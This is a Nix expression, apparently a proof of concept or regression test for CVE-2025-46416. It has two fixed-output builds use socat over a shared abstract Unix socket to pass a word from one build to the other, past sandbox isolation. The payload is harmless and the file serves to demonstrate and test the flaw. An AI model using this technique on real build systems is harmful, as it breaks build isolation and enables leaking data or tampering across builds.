# CVE-2025-46416: builds with a network have one namespace, and so abstract sockets, in common; by these they pass what they have open
# to each other and to whoever is outside. Here two builds, of which neither knows the other's output, pass a word.
let
  word = "from one build to another\n";
  build =
    name: content: script:
    derivation {
      inherit name;
      system = builtins.currentSystem;
      builder = "/bin/sh";
      inherit word;
      busybox = builtins.path {
        path = /usr/bin/busybox;
        name = "busybox";
      };
      # Socat with its libraries and its loader.
      tools = builtins.path {
        path = /tmp/escapes/tools;
        name = "tools";
      };
      outputHashMode = "flat";
      outputHashAlgo = "sha256";
      outputHash = builtins.hashString "sha256" content;
      args = [
        "-c"
        ''
          socat() { $tools/loader --library-path $tools $tools/socat "$@"; }
          ${script}
        ''
      ];
    };
in
{
  listens = build "listens" word ''
    socat -u -T 20 ABSTRACT-LISTEN:escapes,accept-timeout=20 - >$out
    [ -s $out ] || echo nothing came >$out
  '';
  speaks = build "speaks" "spoken\n" ''
    socat -V >/dev/null || exit 1
    for try in 1 2 3 4 5 6 7 8 9 10; do
      printf %s "$word" | socat -u - ABSTRACT-CONNECT:escapes && break
      (exec -a busybox $busybox sleep 1)
    done
    echo spoken >$out
  '';
}
